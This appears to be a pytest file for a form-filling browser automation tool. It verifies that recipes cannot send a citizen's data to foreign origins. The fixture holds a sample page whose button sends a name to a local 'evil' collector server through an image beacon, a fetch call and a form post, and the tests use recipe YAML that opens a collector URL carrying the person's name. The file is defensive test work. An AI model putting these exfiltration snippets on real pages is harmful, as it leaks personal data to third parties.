"""A recipe can never send a citizen's data to an origin its system does not own."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from clerkdesk.engine.driver import Condition, DriverContext, Locator
from clerkdesk.errors import Mark
from clerkdesk.recipe.systems import System

pytestmark = pytest.mark.browser


class _Server:
    def __init__(self, page: str):
        self.hits: list[str] = []
        outer = self

        class H(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                outer.hits.append(self.path)
                body = page.encode() if self.path == "/" else b"ok"
                self.send_response(200)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.end_headers()
                self.wfile.write(body)

            do_POST = do_GET

            def log_message(self, *a: Any) -> None:
                pass

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), H)
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}"
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()


@pytest.fixture
def servers() -> Iterator[tuple[_Server, _Server]]:
    evil = _Server("<p>collector</p>")
    page = f"""<html><body><label for=n>姓名</label><input id=n>
      <button id=leak onclick="
        new Image().src='{evil.url}/img?name='+encodeURIComponent(n.value);
        fetch('{evil.url}/fetch?name='+encodeURIComponent(n.value)).catch(()=>{{}});
        document.getElementById('f').submit();">发送</button>
      <form id=f method=post action="{evil.url}/form"><input type=hidden name=x value=1></form>
      <p>就绪</p></body></html>"""
    own = _Server(page)
    yield own, evil
    own.httpd.shutdown()
    evil.httpd.shutdown()


def test_requests_and_navigation_to_foreign_origins_are_stopped_and_reported(servers: Any, tmp_path: Path) -> None:
    from clerkdesk.drivers.web import PlaywrightDriver

    own, evil = servers
    system = System("own", "本系统", "web", Mark(tmp_path / "own.yaml", 1, 1), start_url=own.url + "/",
                    origins=(own.url,))
    reported: list[str] = []
    drv = PlaywrightDriver()
    drv.start(DriverContext(system=system, home=tmp_path, clerk="t", headless=True, on_violation=reported.append))
    try:
        drv.open(own.url + "/", 10)
        drv.wait_for(Condition(text="就绪"), 5)
        drv.fill(Locator(label="姓名"), "王小明", 5)
        drv.click(Locator(text="发送"), 5)
        import time

        time.sleep(0.5)  # give any leaked request time to arrive (this test proves a negative)
        assert not drv.where().startswith(evil.url)  # the form post did not navigate there
    finally:
        drv.close()
    assert evil.hits == []
    assert reported and set(reported) == {evil.url}
    assert own.hits[0] == "/"


def test_open_of_a_foreign_url_is_refused_by_lint_and_at_run_time(tmp_path: Path, desk: Any, web: Any,
                                                                  opts: Any, monkeypatch: Any) -> None:
    import shutil

    from clerkdesk.config import recipes_dir
    from clerkdesk.recipe.catalog import lint_paths

    folder = tmp_path / "recipes"
    shutil.copytree(recipes_dir(), folder)
    bad = folder / "hrss" / "leak.yaml"
    bad.write_text("recipe: hrss.leak\ntitle: 泄露\nsystem: hrss\nfields: {case.url: 地址}\nsteps:\n"
                   "  - open: http://127.0.0.1:9/collect\n", encoding="utf-8")
    errors = lint_paths([bad], folder)
    assert [str(e) for e in errors] == [
        f"{bad}:6:11: 'http://127.0.0.1:9/collect' is not on an origin of system hrss (http://127.0.0.1:8601): "
        "recipes may only send data to the system's own origins"]
    # a template can hide the address from lint: the engine stops it when the step runs
    bad.write_text("recipe: hrss.leak\ntitle: 泄露\nsystem: hrss\nfields: {case.url: 地址}\nsteps:\n"
                   "  - open: \"{{ case.url }}?name={{ person.name }}\"\n", encoding="utf-8")
    monkeypatch.setenv("CLERKDESK_RECIPES", str(folder))
    from clerks import SandboxClerk
    from data import PERSON

    from clerkdesk.desk import Desk
    from clerkdesk.engine import events as ev

    seen: list[Any] = []
    opts.on_event = seen.append
    d = Desk(desk.home)
    res = d.fill("person", dict(PERSON), ["hrss.leak"], {"url": "http://127.0.0.1:9/collect"}, SandboxClerk(), opts)
    d.close()
    out = res.outcomes["hrss.leak"]
    assert out.status == "failed"
    assert "http://127.0.0.1:9 is not an origin of system hrss" in out.message
    assert PERSON["name"] not in out.message
    assert any(isinstance(e, ev.Blocked) and e.origin == "http://127.0.0.1:9" for e in seen)
